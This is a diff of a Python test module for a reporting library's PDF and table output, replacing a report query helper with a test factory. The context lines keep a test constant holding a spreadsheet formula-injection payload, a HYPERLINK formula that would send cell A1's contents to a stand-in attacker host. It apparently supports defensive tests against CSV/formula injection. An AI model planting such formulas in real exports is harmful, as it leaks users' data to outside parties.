@@ -20,15 +20,16 @@ from credence.reporting.documents import pdf
 from credence.reporting.documents.pdf import TooLong, rendered
 from credence.reporting.documents.tables import all_tables, learners
 from credence.reporting.enums import Form
-from credence.reporting.queries.report import Report, report_for
+from credence.reporting.queries.report import Report
 from tests.archivable import faults
+from tests.factories.reporting import make_report
 from tests.reporting.worked import NOW, Worked
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 
 def the_report(worked: Worked, year: str = "all", course: str = "") -> Report:
-    return report_for(worked.riverside, course=course, year=year, now=NOW)
+    return make_report(worked.riverside, course=course, year=year, now=NOW)
 
 
 def bytes_of(content: Iterable[bytes] | Any) -> bytes:
